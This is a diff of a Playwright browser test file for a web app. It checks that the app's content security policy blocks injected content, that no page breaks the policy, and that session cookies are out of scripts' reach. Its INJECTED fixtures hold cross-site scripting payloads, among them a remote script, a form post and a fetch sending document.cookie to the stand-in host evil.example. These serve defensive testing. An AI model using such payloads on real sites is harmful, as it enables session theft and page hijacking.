@@ -2,11 +2,10 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, StorageState, expect
+from playwright.sync_api import expect
 
 from pages.ui.navigation import PAGES
 from semantic.policy.actor import Actor
@@ -16,71 +15,99 @@ from semantic.store.keys import keys_of
 from semantic.store.question_versions import Content
 from semantic.store.questions import save_question, save_version
 from semantic.store.spaces import MINE
-from tests.browser.screen import Come, sign_in
-from tests.browser.visitor import running_server
+from tests.browser.screen import Come, at_rest, sign_in
+from tests.browser.warm import warm_server
+from tests.browser.windows import Windows
 from tests.companies import current_company
 
 INJECTED = {
-    "a script": """() => { const s = document.createElement('script');
+    "a script": (
+        "script-src-elem",
+        """() => { const s = document.createElement('script');
         s.text = 'window.pwned = 1'; document.body.append(s) }""",
-    "an image that fails": """() => { document.body.insertAdjacentHTML('beforeend',
+    ),
+    "an image that fails": (
+        "script-src-attr",
+        """() => { document.body.insertAdjacentHTML('beforeend',
         '<img src=x: onerror=window.pwned=1>') }""",
-    "a part that says what a click does": """() => { document.body.insertAdjacentHTML('beforeend',
+    ),
+    "a part that says what a click does": (
+        "script-src-attr",
+        """() => { document.body.insertAdjacentHTML('beforeend',
         '<b id=b onclick=window.pwned=1>x</b>'); document.getElementById('b').click() }""",
-    "a script of another site": """() => { const s = document.createElement('script');
+    ),
+    "a script of another site": (
+        "script-src-elem",
+        """() => { const s = document.createElement('script');
         s.src = 'https://evil.example/x.js'; document.body.append(s) }""",
-    "a link that is code": """() => { const a = document.createElement('a'); a.href = 'javascript:window.pwned=1';
+    ),
+    "a link that is code": (
+        "script-src-elem",
+        """() => { const a = document.createElement('a'); a.href = 'javascript:window.pwned=1';
         document.body.append(a); a.click() }""",
-    "a frame": "() => { document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>') }",
-    "a form": """() => { document.body.insertAdjacentHTML('beforeend',
+    ),
+    "a frame": (
+        "frame-src",
+        "() => { document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>') }",
+    ),
+    "a form": (
+        "form-action",
+        """() => { document.body.insertAdjacentHTML('beforeend',
         '<form id=f action=https://evil.example method=post></form>'); document.getElementById('f').submit() }""",
-    "another base": """() => { document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>') }""",
-    "a question elsewhere": "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
-    "a picture elsewhere": "() => { new Image().src = 'https://evil.example/x.png' }",
+    ),
+    "another base": (
+        "base-uri",
+        """() => { document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>') }""",
+    ),
+    "a question elsewhere": (
+        "connect-src",
+        "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
+    ),
+    "a picture elsewhere": ("img-src", "() => { new Image().src = 'https://evil.example/x.png' }"),
 }
 ADMINISTRATOR = "Otto"  # every page is open to an administrator
 LISTEN = """document.addEventListener('securitypolicyviolation',
     e => { if (e.blockedURI !== 'wasm-eval') (window.broken = window.broken || []).push(e.violatedDirective) })"""
 
 
-@pytest.mark.parametrize("what", INJECTED)
-def test_what_is_put_into_a_page_is_blocked(
-    what: str, chromium: Browser, cookies_of: Callable[[str], StorageState], address: str
-) -> None:
-    with chromium.new_context(storage_state=cookies_of("Lena")) as context:
-        page = context.new_page()
-        left: list[str] = []
-        context.on("requestfinished", lambda request: left.append(request.url))
-        page.add_init_script(LISTEN)
-        page.goto(address)
-        expect(page.get_by_text("signed in as Lena")).to_be_visible()
-        page.evaluate(INJECTED[what])
-        page.wait_for_function("() => (window.broken || []).length > 0")
-        assert page.evaluate("() => window.pwned") is None
-        assert [url for url in left if "evil.example" in url] == []
-        assert page.url.startswith(address)
+def test_what_is_put_into_a_page_is_blocked(windows: Windows, come: Come) -> None:
+    windows.expect_mistakes()  # each of them is one
+    page = come(person="Lena")
+    left: list[str] = []
+    page.on("requestfinished", lambda request: left.append(request.url))
+    expect(page.get_by_text("signed in as Lena")).to_be_visible()
+    at = page.url
+    page.evaluate(LISTEN)
+    for what, (directive, script) in INJECTED.items():
+        page.evaluate("() => { window.broken = [] }")
+        page.evaluate(script)
+        page.wait_for_function("directive => window.broken.includes(directive)", arg=directive)
+        assert page.evaluate("() => window.pwned") is None, what
+        assert [url for url in left if "evil.example" in url] == [], what
+        assert page.url == at, what
 
 
-@pytest.mark.parametrize("path", [row.path for row in PAGES])
-def test_no_page_breaks_its_own_policy(path: str, come: Come) -> None:
-    """`come` notes every error that the browser writes to its console; a break of the policy is one."""
-    page = come("" if path == "start" else path, person=ADMINISTRATOR)
-    expect(page.locator("[data-testid=stMain]")).to_be_visible()
-    expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_attached()
-    page.wait_for_timeout(500)
-    assert page.locator("[data-testid=stException]").count() == 0
+def test_no_page_breaks_its_own_policy(come: Come) -> None:
+    """Every error that the browser writes to its console fails a test; a break of the policy is one."""
+    page = come(person=ADMINISTRATOR)
+    start = page.url
+    for row in PAGES:
+        page.goto(start + ("" if row.path == "start" else row.path))
+        expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_attached()
+        at_rest(page)
+        expect(page.get_by_role("heading", level=1).first).to_be_visible()
+        assert page.locator("[data-testid=stException]").count() == 0, row.path
 
 
-def test_cookies_are_out_of_the_reach_of_scripts(
-    chromium: Browser, cookies_of: Callable[[str], StorageState], address: str
-) -> None:
-    with chromium.new_context(storage_state=cookies_of("Lena")) as context:
-        page = context.new_page()
-        page.goto(address)
-        kept = [one for one in context.cookies() if str(one.get("name", "")).startswith(("samepage", "__Host-"))]
-        assert kept
-        assert all(one.get("httpOnly") and one.get("sameSite") == "Lax" for one in kept)
-        assert "samepage" not in page.evaluate("() => document.cookie")
+def test_cookies_are_out_of_the_reach_of_scripts(windows: Windows, address: str) -> None:
+    context = windows.take()
+    page = context.new_page()
+    page.goto(address)
+    sign_in(page, "Lena")
+    kept = [one for one in context.cookies() if str(one.get("name", "")).startswith(("samepage", "__Host-"))]
+    assert kept
+    assert all(one.get("httpOnly") and one.get("sameSite") == "Lax" for one in kept)
+    assert "samepage" not in page.evaluate("() => document.cookie")
 
 
 # What people write
@@ -95,21 +122,15 @@ WRITTEN = (
 
 
 def test_names_sentences_and_notes_that_people_write_are_shown_as_text(
-    chromium: Browser, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
+    come: Come, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
 ) -> None:
     data = current_company(tmp_path_factory)
     place, key = str(tmp_path / "store.sqlite"), "a key of tests that is long enough for it"
-    with (
-        running_server(
-            tmp_path / "log", SAMEPAGE_DEMO="1", SAMEPAGE_DATA=str(data), SAMEPAGE_STORE=place, SAMEPAGE_AUDIT_KEY=key
-        ) as port,
-        chromium.new_context() as context,
-    ):
-        page = context.new_page()
-        page.goto(f"http://127.0.0.1:{port}")
-        sign_in(page, "Ana")
+    with warm_server(
+        tmp_path / "log", SAMEPAGE_DEMO="1", SAMEPAGE_DATA=str(data), SAMEPAGE_STORE=place, SAMEPAGE_AUDIT_KEY=key
+    ) as port:
         last = _save_all(place, key)
-        page.goto(f"http://127.0.0.1:{port}/saved")
+        page = come("saved", person="Ana", at=f"http://127.0.0.1:{port}")
         rows = page.locator(".st-key-list-of-saved")
         expect(rows.get_by_role("link")).to_have_count(len(WRITTEN))
         # A mark that nobody sees keeps addresses from being links.
